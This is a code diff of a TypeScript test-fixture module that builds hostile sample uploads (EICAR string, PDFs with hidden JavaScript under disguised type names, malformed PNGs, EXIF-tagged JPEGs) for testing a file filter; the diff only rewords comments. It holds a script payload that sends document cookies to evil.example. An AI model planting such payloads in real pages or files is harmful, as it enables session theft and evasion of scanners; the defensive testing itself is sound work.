@@ -1,12 +1,12 @@
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 
-/** What the virus scanners of the world agree to find; in halves, so that none finds this file. */
+/** The test pattern that every virus scanner detects; in two halves, so that none reports this file. */
 export const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
 
 const bytes = (text: string) => Buffer.from(text, 'latin1')
 
-/** The smallest PDF with a page; `extra` goes into its catalog, `objects` behind its own. */
+/** The smallest PDF with a page; `extra` goes into its catalog, `objects` after its own objects. */
 export function makePdf(extra = '', objects = ''): Buffer {
   return bytes(
     `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${extra}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n${objects}\ntrailer<</Root 1 0 R/Size 4>>\nstartxref\n9\n%%EOF\n`,
@@ -30,7 +30,7 @@ export const makePng = (width = 60, height = 40) =>
   blank(width, height).png({ compressionLevel: 9 }).toBuffer()
 export const makeWebp = () => blank(60, 40).webp().toBuffer()
 
-/** A JPEG that says where it was taken. */
+/** A JPEG with the place where it was taken. */
 export const makeJpegWithPlace = () =>
   blank(60, 40)
     .withExif({
@@ -45,12 +45,12 @@ export const makeJpegWithPlace = () =>
     .jpeg()
     .toBuffer()
 
-/** A PNG header that claims a size without the pixels to it. */
+/** A PNG header that claims a size without the pixels for it. */
 export function claimSize(png: Buffer, width: number, height: number): Buffer {
   const lying = Buffer.from(png)
   lying.writeUInt32BE(width, 16)
   lying.writeUInt32BE(height, 20)
-  // The checksum of the header, so that only the pixels are missing.
+  // Recomputes the header's checksum, so that only the pixels are missing.
   lying.writeUInt32BE(crc32(lying.subarray(12, 29)), 29)
   return lying
 }
@@ -65,7 +65,7 @@ function crc32(data: Buffer): number {
 }
 
 const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
-/** Its dictionary speaks of a stream before there is one. */
+/** A dictionary that mentions a stream before there is one. */
 const FAKE = '/Type/ObjStm/X(stream\n)'
 const FTYP = (brand: string) =>
   Buffer.concat([Buffer.from([0, 0, 0, 24]), bytes(`ftyp${brand}\0\0\0\0mif1${brand}`)])
@@ -73,7 +73,7 @@ const ZIP = bytes('PK\x03\x04\x14\0\0\0\x08\0')
 
 export type Hostile = { what: string; name: string; type?: string; content: Buffer }
 
-/** Refused: what comes in, and the code it is refused with. */
+/** Files that must be refused, each with the expected code. */
 export async function makeRefusedFiles(): Promise<Array<Hostile & { code: string }>> {
   const jpeg = await makeJpeg()
   const png = await makePng()
@@ -174,7 +174,7 @@ export async function makeRefusedFiles(): Promise<Array<Hostile & { code: string
       makePackedPdf('4 0 <</S/JavaScript/JS(app.alert(1))>>'),
       'pdf_active',
     ],
-    // The same, under names that a reader understands all the same, or under none.
+    // The same under type names that PDF readers still understand, or without one.
     ...['/Type/Obj#53tm', '/Type/ObjSt#6d', '/Type/#4fbjStm', '/Type/Ob#6aStm', '/Type 9 0 R', '', FAKE].map(
       (type): [string, string, Buffer, string] => [
         `a PDF with JavaScript packed away as ${type || 'nothing'}`,
@@ -208,7 +208,7 @@ function makePackedPdfRaw(): Buffer {
   )
 }
 
-/** Taken, and harmless when they come out: what must not be in them any more. */
+/** Files that must be accepted and made harmless, each with the content that must be gone. */
 export async function makeTamedFiles(): Promise<Array<Hostile & { gone: string; saved: RegExp }>> {
   const jpeg = await makeJpeg()
   const png = await makePng()
